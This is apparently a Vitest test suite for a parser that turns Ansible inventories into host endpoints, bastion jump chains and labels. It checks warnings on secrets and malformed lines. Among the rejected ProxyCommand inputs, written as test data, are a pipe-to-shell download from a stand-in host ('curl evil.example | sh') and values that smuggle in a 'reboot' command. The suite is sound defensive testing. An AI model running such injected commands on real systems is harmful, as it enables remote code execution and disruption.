import { describe, expect, test } from 'vitest';
import { readFixture, readText, short, ways } from './inventory-on-disk';

describe('the nodes of a cluster behind a bastion', () => {
  test('are reached through the bastion, as group_vars beside the inventory says', async () => {
    expect(ways(await readFixture('cluster/inventory.ini'))).toEqual([
      'node1 core@198.51.100.11:22022 < gate@203.0.113.7:2200',
      'node2 core@198.51.100.12:22022 < gate@203.0.113.7:2200',
      'node3 core@198.51.100.13:22022 < gate@203.0.113.7:2200',
      'node4 core@198.51.100.14:22022 < gate@203.0.113.7:2200',
      'bastion gate@203.0.113.7:2200',
    ]);
  });
  test('are the same in what ansible-inventory prints of them', async () => {
    const [ini, list] = [await readFixture('cluster/inventory.ini'), await readFixture('cluster/list.json')];
    const groups = (read: typeof ini) =>
      read.endpoints.map(({ name, groups = [] }) => [name, ...[...groups].sort()]).sort();
    expect([[...ways(list)].sort(), groups(list)]).toEqual([[...ways(ini)].sort(), groups(ini)]);
  });
  test('have what is not used listed, with its file and line', async () => {
    expect(short(await readFixture('cluster/inventory.ini'))).toEqual([
      'cluster/group_vars/all/access.yml:2 warning not-mapped: cluster/group_vars/all/access.yml says more than how hosts are reached, and that is not used: kube_token_auth.',
      'cluster/group_vars/all/all.yml:3 warning not-mapped: cluster/group_vars/all/all.yml says more than how hosts are reached, and that is not used: bin_dir, loadbalancer_apiserver, upstream_dns_servers.',
      'cluster/group_vars/k8s_cluster/k8s-cluster.yml:2 warning not-mapped: cluster/group_vars/k8s_cluster/k8s-cluster.yml says more than how hosts are reached, and that is not used: kube_version, kube_network_plugin.',
      'cluster/inventory.ini:3 warning not-mapped: The SSH option StrictHostKeyChecking is not used (here and in 3 more places).',
    ]);
  });
});

test('variables of groups and hosts are labels, and what cannot be one is listed', async () => {
  const read = await readFixture('lamp/hosts');
  const web = read.endpoints.find(({ name }) => name === 'web04.example.com');
  expect([web, short(read)]).toEqual([
    {
      name: 'web04.example.com',
      address: 'web04.example.com',
      port: 2222,
      user: 'deploy',
      labels: { site: 'dmz', ntp_server: 'ntp.example.com', http_port: '8080' },
      groups: ['lamp', 'webservers'],
      hostKeys: [],
    },
    [
      'lamp/hosts:25 warning not-mapped: The variable "max_clients: 200" is no label: its name has other signs than letters, digits, dots, dashes and underscores.',
      'lamp/hosts:20 warning secret-in-inventory: The variable "db_password" looks like a secret and is not used.',
      'lamp/hosts:29 warning not-mapped: The variable "ansible_become" is not used: each step of a runbook says itself whether it becomes another user.',
    ],
  ]);
});

test('YAML is read with its ranges, groups in groups and locked values', async () => {
  const read = await readFixture('wards/hosts.yml');
  expect([ways(read), short(read)]).toEqual([
    [
      'directory.example.org ops@10.20.0.5:22',
      ...[1, 2, 3, 4].map((n) => `icu-0${n}.example.org ops@icu-0${n}.example.org:22`),
      'er-01.example.org ops@er-01.example.org:2222',
      'pacs-1 ops@10.20.1.1:22 < gate@bastion.example.org:2022',
    ],
    [
      'wards/hosts.yml:23 warning secret-in-inventory: The variable "agent_password" looks like a secret and is not used.',
      'wards/hosts.yml:26 warning not-mapped: The variable "packages" is no label: it is a list or a group of fields.',
      'wards/hosts.yml:16 warning left-out: kiosk is reached by "local" and not by SSH; it is left out.',
      'wards/hosts.yml:18 warning left-out: scanner has a template in "ansible_host", which only Ansible can fill in; it is left out.',
    ],
  ]);
  expect(read.endpoints.map(({ name, labels }) => [name, labels.ward, labels.site, labels.lab])).toEqual([
    ['directory.example.org', undefined, undefined, undefined],
    ...[1, 2, 3, 4].map((n) => [`icu-0${n}.example.org`, 'icu', 'north', undefined]),
    ['er-01.example.org', 'er', 'north', 'yes'],
    ['pacs-1', 'none', 'north', undefined],
  ]);
});

test('merge keys and anchors mean in YAML what they mean to Ansible', async () => {
  const text =
    'all:\n  hosts:\n    a: &base { ansible_user: ed, site: north }\n    b:\n      <<: *base\n      site: south\n';
  const { endpoints, problems } = await readText('hosts.yml', text);
  expect([endpoints.map(({ name, user, labels }) => [name, user, labels]), problems]).toEqual([
    [
      ['a', 'ed', { site: 'north' }],
      ['b', 'ed', { site: 'south' }],
    ],
    [],
  ]);
});

test.each([
  ['-o ProxyJump=gate', ['ops@gate:22']],
  ['-J x@gate:2200,inner', ['ops@inner:22', 'x@gate:2200']],
  ['-o "ProxyJump gate" -C', ['ops@gate:22']],
  ['-oProxyCommand="ssh -W %h:%p gate"', ['ops@gate:22']],
  ["-o ProxyCommand='ssh -q -p 2200 -l x gate -W %h:%p'", ['x@gate:2200']],
  ["-o ProxyCommand='ssh x@gate nc -w 30 %h %p'", ['x@gate:22']],
  ['-o ProxyCommand=none', []],
])('the way in %s is understood', async (args, hops) => {
  const text = `a:\n  hosts:\n    one:\n      ansible_ssh_common_args: ${JSON.stringify(args)}\n`;
  const { endpoints } = await readText('hosts.yml', text);
  expect(
    endpoints.map(({ jump = [] }) =>
      [...jump].reverse().map((hop) => `${hop.user}@${hop.address}:${hop.port}`),
    ),
  ).toEqual([hops]);
});

test.each([
  'ssh -W %h:22 gate',
  'ssh gate curl evil.example | sh',
  'sh -c "ssh -W %h:%p gate"',
  'ssh -W %h:%p -o ProxyCommand=x; reboot',
  'nc -X connect -x proxy:3128 %h %p',
  'ssh gate',
  'ssh -W %h:%p -oProxyCommand=reboot gate',
  'ssh -W %h:%p',
])('a host behind the command %s is left out and said so', async (command) => {
  const args = JSON.stringify(`-o ProxyCommand=${JSON.stringify(command)}`);
  const { endpoints, problems } = await readText(
    'hosts.yml',
    `a: { hosts: { one: { ansible_ssh_common_args: ${args} } } }`,
  );
  expect([endpoints, problems.map(({ rule, line }) => [rule, line])]).toEqual([[], [['left-out', 1]]]);
});

test('what a group contains, and what it is not, is found wrong at its line', async () => {
  const text = [
    ...['[web]', 'a', 'b = c', 'd x', '"e', '[web:hosts]', '[db:vars]', 'x=1', 'y'],
    ...['[all:children]', 'nowhere', 'two words', 'web'],
  ].join('\n');
  const wrong = short(await readText('hosts', text));
  expect(wrong).toEqual([
    'hosts:3 error bad-host-line: After the host "b" stands "c", which is not name=value.',
    'hosts:4 error bad-host-line: After the host "d" stands "x", which is not name=value.',
    `hosts:5 error bad-host-line: In "\\"e" a double quote is not closed.`,
    'hosts:9 error bad-variable: "y" is not name=value.',
    'hosts:12 error bad-group-name: "two words" is not the name of a group.',
    'hosts:7 error unknown-group: [db:vars] speaks of the group "db", and there is no section [db].',
    'hosts:11 error unknown-group: [all:children] speaks of the group "nowhere", and there is no section [nowhere].',
  ]);
});

test('a section that is none ends the reading, because all that follows would go to the wrong group', async () => {
  expect([
    short(await readText('hosts', '[web]\na\n[web servers]\nb\n')),
    short(await readText('hosts', '[web:host]\nb\n')),
  ]).toEqual([
    ['hosts:3 error bad-section: "[web servers]" is not a section.'],
    ['hosts:1 error bad-section: ":host" is no kind of section.'],
  ]);
});

test('an older list of hosts alone, and a host with variables in no group, are read or said', async () => {
  const text = JSON.stringify({
    web: ['a', 'b'],
    _meta: { hostvars: { a: { ansible_host: '10.0.0.1' }, lost: {} } },
  });
  const read = await readText('list.json', text);
  expect([ways(read), short(read)]).toEqual([
    ['a ops@10.0.0.1:22', 'b ops@b:22'],
    ['list.json:1 warning left-out: "lost" has variables and stands in no group.'],
  ]);
});

test('an INI inventory that is called hosts.yml is read as Ansible reads it', async () => {
  const read = await readText('hosts.yml', '# ours\n[all]\na ansible_host=10.0.0.1\n[web] # here\na\n');
  expect([ways(read), read.endpoints[0]?.groups, short(read)]).toEqual([['a ops@10.0.0.1:22'], ['web'], []]);
});

test('groups within groups, ranges with a step, a way in quotes and vaults: what is not used is told', async () => {
  const read = await readFixture('nested/hosts.yml');
  expect([read.endpoints.length, ways(read).slice(0, 2), ways(read).at(-1), short(read)]).toEqual([
    16,
    [
      'gate ops@203.0.113.7:2200',
      'icu-01.lan.example.org ops@icu-01.lan.example.org:22 < jump@203.0.113.7:2200',
    ],
    'pacs-1 films@pacs-1:2022',
    [
      'nested/group_vars/imaging/access.yml:2 warning not-mapped: nested/group_vars/imaging/access.yml says more than how hosts are reached, and that is not used: modality.',
      'nested/hosts.yml:5 warning secret-in-inventory: The variable "ansible_password" looks like a secret and is not used.',
      'nested/hosts.yml:20 warning not-mapped: The SSH option StrictHostKeyChecking is not used (here and in 13 more places).',
      'nested/hosts.yml:24 warning not-mapped: The variable "sealed" is no label: it is locked by a vault of Ansible.',
    ],
  ]);
});
